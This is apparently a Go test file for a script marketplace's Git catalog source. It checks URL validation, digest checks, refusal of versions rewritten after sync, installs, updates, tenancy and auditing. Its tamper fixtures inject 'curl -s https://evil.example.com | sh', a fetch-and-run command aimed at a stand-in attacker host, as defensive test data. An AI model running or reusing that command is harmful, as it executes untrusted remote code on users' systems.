package marketplace_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"slipway/internal/agenttest"
	"slipway/internal/apitest"
	"slipway/internal/fixture"
	"slipway/internal/marketplace"
	"slipway/internal/platform/db"
	"slipway/internal/platform/db/dbtest"
)

// catalogFiles lays a published version out as a Git source holds it.
func catalogFiles(t *testing.T, c *apitest.Client, item marketplace.MarketItem, version string) map[string]string {
	t.Helper()
	var v marketplace.ItemVersion
	c.Do("GET", "/api/marketplace/items/"+item.ID+"/versions/"+version, nil).JSON(t, &v)
	var files []marketplace.VersionFile
	c.Do("GET", "/api/marketplace/items/"+item.ID+"/files?version="+version, nil).JSON(t, &files)
	head, _ := json.Marshal(obj{"kind": item.Kind, "name": item.Name, "summary": item.Summary, "tags": item.Tags})
	ver, _ := json.Marshal(obj{"changelog": v.Changelog, "digest": v.Digest,
		"manifest": marketplace.VersionManifest{Kind: item.Kind, Objects: v.Objects, Files: v.Files, Capabilities: v.Capabilities}})
	dir := "marketplace/" + item.Slug + "/"
	out := map[string]string{dir + "item.json": string(head), dir + version + "/version.json": string(ver)}
	for _, f := range files {
		out[dir+version+"/files/"+f.Path] = f.Content
	}
	return out
}

// push commits files (path → content; "" removes it) to the bare
// repository's main branch.
func push(t *testing.T, bare string, files map[string]string) {
	t.Helper()
	work := filepath.Join(t.TempDir(), "work")
	agenttest.Git(t, "", "clone", "-q", bare, work)
	for p, c := range files {
		full := filepath.Join(work, p)
		if c == "" {
			os.Remove(full)
			continue
		}
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	agenttest.Git(t, work, "add", "-A")
	agenttest.Git(t, work, "-c", "user.name=t", "-c", "user.email=t@example.test", "commit", "-q", "-m", "change")
	agenttest.Git(t, work, "push", "-q", "origin", "main")
}

// TestMarketplaceGitSource, on both databases: a Git source (served by the
// real git http-backend over TLS, fetched by the host-side git through the
// outbound tunnel) lists its repository's items to its workspace alone;
// a version whose file does not match its digest is refused, and so is a
// version rewritten after it was synced; the rest is taken. Its items
// install like any other; the source cannot go while they are installed.
func TestMarketplaceGitSource(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, e db.Engine) {
		f := fixture.NewAPI(t, e, "SERVICE_WORKFLOW_HTTP_ALLOW_PRIVATE", "true")
		pub, buyer, admin := f.Owner, f.Outsider, f.Admin

		// What the repository holds: the publisher's script item as
		// published, and a second one whose file was changed afterwards.
		publishScript := func(name, slug, source string) marketplace.MarketItem {
			t.Helper()
			r := pub.Do("POST", "/api/scripts", obj{"name": name, "slug": slug, "language": "sh", "source": source})
			fixture.Want(t, r, http.StatusCreated)
			r = pub.Do("POST", "/api/marketplace/scripts/publish", obj{"script_id": r.Map(t)["id"], "version": "1.0.0", "changelog": "First.",
				"summary": name + " from git"})
			fixture.Want(t, r, http.StatusCreated)
			var p marketplace.Published
			r.JSON(t, &p)
			return p.Item
		}
		greeter := publishScript("Greeter", "greeter", "echo hi\n")
		broken := publishScript("Broken", "broken", "echo ok\n")
		files := catalogFiles(t, pub, greeter, "1.0.0")
		bad := catalogFiles(t, pub, broken, "1.0.0")
		bad["marketplace/broken/1.0.0/files/scripts/broken.json"] = strings.Replace(bad["marketplace/broken/1.0.0/files/scripts/broken.json"], "echo ok", "curl evil", 1)
		for p, c := range bad {
			files[p] = c
		}
		files["README.md"] = "A catalog.\n"
		bare := agenttest.BareRepo(t, files)
		url := agenttest.HTTPSRemote(t, bare, "", "")

		// Only https URLs, without credentials.
		for _, u := range []string{"http://example.com/x.git", "file://" + bare, bare, "ssh://git@example.com/x.git", "https://u:p@example.com/x.git",
			"https://example.com"} {
			fixture.WantError(t, buyer.Do("POST", "/api/marketplace/sources", obj{"kind": "git", "name": "Bad", "url": u}), http.StatusBadRequest, "bad_request", "url")
		}
		fixture.WantError(t, buyer.Do("POST", "/api/marketplace/sources", obj{"kind": "git", "name": "Bad", "url": url, "branch": "../x"}),
			http.StatusBadRequest, "bad_request", "branch")

		// Created and synced at once: greeter taken, broken refused.
		r := buyer.Do("POST", "/api/marketplace/sources", obj{"kind": "git", "name": "Team catalog", "url": url})
		fixture.Want(t, r, http.StatusCreated)
		var src marketplace.MarketSource
		r.JSON(t, &src)
		if src.Kind != "git" || src.Status != "sync_error" || src.Items != 1 || src.LastError == nil ||
			!strings.Contains(*src.LastError, "broken 1.0.0") || !strings.Contains(*src.LastError, "does not match its digest") || src.SyncedAt == nil {
			t.Fatalf("the synced source: %+v (%s)", src, r.Body)
		}
		page := items(t, buyer, "?source_id="+src.ID)
		if page.Total != 1 || page.Items[0].Slug != "greeter" || page.Items[0].Mine || page.Items[0].Verified || page.Items[0].LatestVersion != "1.0.0" {
			t.Fatalf("the source's items: %+v", page)
		}
		item := page.Items[0].ID
		// Its workspace's alone, and not for the instance's review.
		fixture.WantError(t, admin.Do("GET", "/api/marketplace/items/"+item, nil), http.StatusNotFound, "not_found")
		if q := admin.Do("GET", "/api/admin/marketplace/review", nil); strings.Contains(string(q.Body), item) {
			t.Fatal("a Git source's item is in the review queue")
		}

		// Installed like any other item.
		r = buyer.Do("POST", "/api/marketplace/items/"+item+"/versions/1.0.0/install", nil)
		fixture.Want(t, r, http.StatusCreated)
		var inst marketplace.MarketInstall
		r.JSON(t, &inst)
		if sc := buyer.Do("GET", "/api/scripts/"+inst.Objects["script"], nil).Map(t); sc["source"] != "echo hi\n" {
			t.Fatalf("the installed script: %+v", sc)
		}

		// 1.0.0 rewritten in the repository (manifest and digest made to
		// match): refused, the synced bytes kept.
		tampered := catalogFiles(t, pub, greeter, "1.0.0")
		path := "marketplace/greeter/1.0.0/files/scripts/greeter.json"
		var sc marketplace.ScriptContent
		json.Unmarshal([]byte(tampered[path]), &sc)
		sc.Source = "curl -s https://evil.example.com | sh\n"
		content, _ := json.MarshalIndent(sc, "", "  ")
		tampered[path] = string(content)
		var vf struct {
			Changelog string                      `json:"changelog"`
			Digest    string                      `json:"digest"`
			Manifest  marketplace.VersionManifest `json:"manifest"`
		}
		json.Unmarshal([]byte(tampered["marketplace/greeter/1.0.0/version.json"]), &vf)
		vf.Manifest.Files[0].SHA256, vf.Manifest.Files[0].Size = sha256hex(content), int64(len(content))
		vf.Digest = vf.Manifest.Digest()
		raw, _ := json.Marshal(vf)
		tampered["marketplace/greeter/1.0.0/version.json"] = string(raw)
		push(t, bare, tampered)
		r = buyer.Do("POST", "/api/marketplace/sources/"+src.ID+"/sync", nil)
		fixture.Want(t, r, http.StatusOK)
		r.JSON(t, &src)
		if src.Status != "sync_error" || !strings.Contains(*src.LastError, "greeter 1.0.0: changed since it was synced") {
			t.Fatalf("after the rewrite: %+v", src)
		}
		var prev marketplace.ScriptContent
		buyer.Do("GET", "/api/marketplace/items/"+item+"/preview/script", nil).JSON(t, &prev)
		if prev.Source != "echo hi\n" {
			t.Fatalf("the synced version changed: %+v", prev)
		}

		// Put back, a new version, broken gone: all taken, enabled again.
		restored := catalogFiles(t, pub, greeter, "1.0.0")
		var pubScript string
		for _, s := range listScripts(t, pub) {
			if s["slug"] == "greeter" {
				pubScript = s["id"].(string)
			}
		}
		fixture.Want(t, pub.Do("PATCH", "/api/scripts/"+pubScript, obj{"source": "echo hello\n"}), http.StatusOK)
		fixture.Want(t, pub.Do("POST", "/api/marketplace/scripts/publish", obj{"script_id": pubScript, "version": "1.1.0", "changelog": "Hello."}),
			http.StatusCreated)
		for p, c := range catalogFiles(t, pub, greeter, "1.1.0") {
			restored[p] = c
		}
		for p := range bad {
			restored[p] = ""
		}
		push(t, bare, restored)
		r = buyer.Do("POST", "/api/marketplace/sources/"+src.ID+"/sync", nil)
		fixture.Want(t, r, http.StatusOK)
		r.JSON(t, &src)
		if src.Status != "enabled" || src.LastError != nil {
			t.Fatalf("after the fix: %+v", src)
		}
		r = buyer.Do("POST", "/api/marketplace/installs/"+inst.ID+"/update", obj{})
		fixture.Want(t, r, http.StatusOK)
		if sc := buyer.Do("GET", "/api/scripts/"+inst.Objects["script"], nil).Map(t); sc["source"] != "echo hello\n" {
			t.Fatalf("the updated script: %+v", sc)
		}
		if len(f.App.AuditEntries(t, "marketplace.source.create", src.ID)) != 1 || len(f.App.AuditEntries(t, "marketplace.source.sync", src.ID)) != 3 {
			t.Fatal("the Git source's creation and syncs are not audited")
		}

		// Another workspace's Git source is an unknown one; it cannot go
		// while its items are installed.
		apitest.CheckTenancy(t, buyer, pub, []apitest.TenancyCase{
			{Name: "git source patch", Method: "PATCH", Path: "/api/marketplace/sources/{id}", Body: obj{"name": "Mine"},
				Create: func(*testing.T, *apitest.Client) string { return src.ID }},
			{Name: "git source sync", Method: "POST", Path: "/api/marketplace/sources/{id}/sync",
				Create: func(*testing.T, *apitest.Client) string { return src.ID }},
			{Name: "git item", Method: "GET", Path: "/api/marketplace/items/{id}", Create: func(*testing.T, *apitest.Client) string { return item }},
		})
		fixture.WantError(t, buyer.Do("DELETE", "/api/marketplace/sources/"+src.ID, nil), http.StatusConflict, "conflict", "installs")
		fixture.WantError(t, buyer.Do("PATCH", "/api/marketplace/sources/"+src.ID, obj{"grants": []string{pub.DefaultWorkspace()}}),
			http.StatusBadRequest, "bad_request", "grants")
	})
}

func listScripts(t *testing.T, c *apitest.Client) []obj {
	t.Helper()
	var out []obj
	c.Do("GET", "/api/scripts", nil).JSON(t, &out)
	return out
}

func sha256hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
